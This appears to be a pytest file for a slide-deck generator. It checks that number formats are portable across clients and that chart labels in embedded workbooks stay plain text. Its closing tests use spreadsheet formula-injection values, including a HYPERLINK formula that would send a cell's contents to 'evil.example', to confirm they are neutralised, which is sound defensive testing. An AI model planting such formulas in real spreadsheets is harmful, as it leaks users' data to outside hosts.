"""Number formats every client reads alike, and labels that never become formulas.

A number format is read by LibreOffice, by PowerPoint-compatible engines and by
spreadsheets. A quoted literal before `%` (`0"\u202f"%`) is read by LibreOffice as a
percent and by a PowerPoint-compatible engine as a plain number (0.9 printed
"1 %"), so deckgen writes literals backslash-escaped only. These tests check
every format deckgen can emit, by reading what a built deck actually holds, and
interpret each with the rules of ECMA-376 Part 1, 18.8.31 (numFmts): a
backslash shows the next character, `%` multiplies by 100, `0` is a digit.
"""

from __future__ import annotations

import io
import re
import zipfile
from decimal import ROUND_HALF_UP, Decimal

import pytest
from openpyxl import load_workbook

from deckgen.locales import LOCALES
from deckgen.locales.numbers import NNBSP, format_percent, percent_number_format

from .helpers import replace_in, write_spec


def is_portable_number_format(code: str) -> bool:
    """True when every client reads `code` alike: no quoted literal, no bracket
    section ([Red], [$-40C]), no text placeholder; literals only backslash-escaped."""
    i = 0
    while i < len(code):
        ch = code[i]
        if ch == "\\":
            if i + 1 == len(code):
                return False
            i += 2
            continue
        if ch not in "0#.,%":
            return False
        i += 1
    return True


def render(code: str, value: float, decimal_mark: str) -> str:
    """`value` shown with the number format `code`, as ECMA-376 defines it, for the
    subset of codes that `is_portable_number_format` admits (one section, `0` `.` `%`
    and backslash-escaped literals). `decimal_mark` is the viewer's."""
    assert is_portable_number_format(code), code
    body = code.replace("\\", "")
    decimals = body.split(".")[1] if "." in body else ""
    digits = len(decimals) - len(decimals.lstrip("0#"))  # the 0s after the point
    scaled = Decimal(repr(value)).scaleb(2 * code.count("%"))
    number = str(scaled.quantize(Decimal(1).scaleb(-digits), rounding=ROUND_HALF_UP))
    out, i, placed = [], 0, False
    while i < len(code):
        ch = code[i]
        if ch == "\\":
            out.append(code[i + 1])
            i += 2
            continue
        if ch in "0.#" and not placed:
            out.append(number.replace(".", decimal_mark))
            placed = True
        elif ch == "%":
            out.append("%")
        i += 1
    return "".join(out)


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("digits", [0, 1, 2])
def test_every_percent_format_is_portable_and_prints_our_figure(locale, digits):
    code = percent_number_format(locale, digits)
    assert is_portable_number_format(code), code
    assert '"' not in code
    mark = {"fr": ",", "de": ",", "en": "."}[locale]  # a viewer set to that locale
    for value in (0.0, 0.004, 0.35, 0.575, 0.625, 0.9, 30 / 31, 1.0):
        assert render(code, value, mark) == format_percent(value, locale, digits), (code, value)


def test_french_format_keeps_the_narrow_space_escaped():
    assert percent_number_format("fr") == f"0\\{NNBSP}%"
    assert percent_number_format("fr", 1) == f"0.0\\{NNBSP}%"
    assert percent_number_format("en") == "0%"


@pytest.mark.parametrize(
    "code", [f'0"{NNBSP}"%', '0" "%', "[Red]0%", "0%;[Red]-0%", "@", "0\\", "General"]
)
def test_forms_one_client_reads_differently_are_refused(code):
    assert not is_portable_number_format(code)


@pytest.mark.parametrize("code", ["0%", "0\\ %", f"0\\{NNBSP}%", "0.00%", "#,##0"])
def test_forms_both_clients_read_alike_are_admitted(code):
    assert is_portable_number_format(code)


_FORMAT_CODE = re.compile(r'formatCode="([^"]*)"')


def _formats_in_deck(path) -> dict[str, set[str]]:
    """Every number format a deck holds: chart XML (labels, axes, caches) and the
    styles of every embedded workbook, by the zip entry they come from."""
    from xml.sax.saxutils import unescape

    found: dict[str, set[str]] = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("ppt/charts/chart") and name.endswith(".xml"):
                codes = _FORMAT_CODE.findall(z.read(name).decode("utf-8"))
                found[name] = {unescape(c, {"&quot;": '"'}) for c in codes}
            elif name.startswith("ppt/embeddings/") and name.endswith(".xlsx"):
                with zipfile.ZipFile(io.BytesIO(z.read(name))) as book:
                    styles = book.read("xl/styles.xml").decode("utf-8")
                found[name] = {unescape(c, {"&quot;": '"'}) for c in _FORMAT_CODE.findall(styles)}
    return found


def test_every_format_in_the_real_deck_is_portable(real_deck):
    found = _formats_in_deck(real_deck.path)
    charts = [n for n in found if n.startswith("ppt/charts/")]
    books = [n for n in found if n.startswith("ppt/embeddings/")]
    assert len(charts) >= 20 and len(books) == len(charts)
    wrong = {
        name: sorted(c for c in codes if not is_portable_number_format(c))
        for name, codes in found.items()
    }
    assert not any(wrong.values()), {k: v for k, v in wrong.items() if v}
    # the labels and the embedded cells carry the French percent, not a bare "0%"
    assert all(f"0\\{NNBSP}%" in found[name] for name in charts + books)


def test_small_decks_hold_only_portable_formats(small_decks):
    for name, path in small_decks.items():
        for part, codes in _formats_in_deck(path).items():
            assert all(is_portable_number_format(c) for c in codes), (name, part, codes)


# -- labels never become formulas ------------------------------------------------

HOSTILE = {
    "Plateforme de participation": '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "Pétitions en ligne": "=1+1",
    "Visioconférence": "http://evil.example/",
}


def test_embedded_workbooks_hold_labels_as_text(data_copy, tmp_path):
    from deckgen.workflows.pipeline import build

    for label, hostile in HOSTILE.items():
        replace_in(data_copy, f'label: "{label}"', f"label: {_yaml_str(hostile)}")
    replace_in(
        data_copy,
        'text: "Quels dispositifs numériques mis en place ?"',
        'text: "=HYPERLINK(\\"http://evil.example/\\",\\"q\\")"',
    )
    spec = write_spec(
        tmp_path / "spec.yaml",
        [
            {
                "layout": "chart",
                "title": "Essai",
                "chart": {
                    "type": "bar",
                    "indicator": {"kind": "multi", "question": "dispositifs_numeriques"},
                },
            }
        ],
        data=str(data_copy),
    )
    deck = build(spec, tmp_path / "deck.pptx").path
    with zipfile.ZipFile(deck) as z:
        (book,) = [n for n in z.namelist() if n.startswith("ppt/embeddings/")]
        ws = load_workbook(io.BytesIO(z.read(book))).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.hyperlink is not None]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(HOSTILE.values()) <= texts
    assert '=HYPERLINK("http://evil.example/","q")' in texts  # the series name
    # the values are still numbers, shown as percents
    numbers = [c for c in cells if c.data_type == "n"]
    assert numbers and all(c.number_format == f"0\\{NNBSP}%" for c in numbers)


def _yaml_str(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
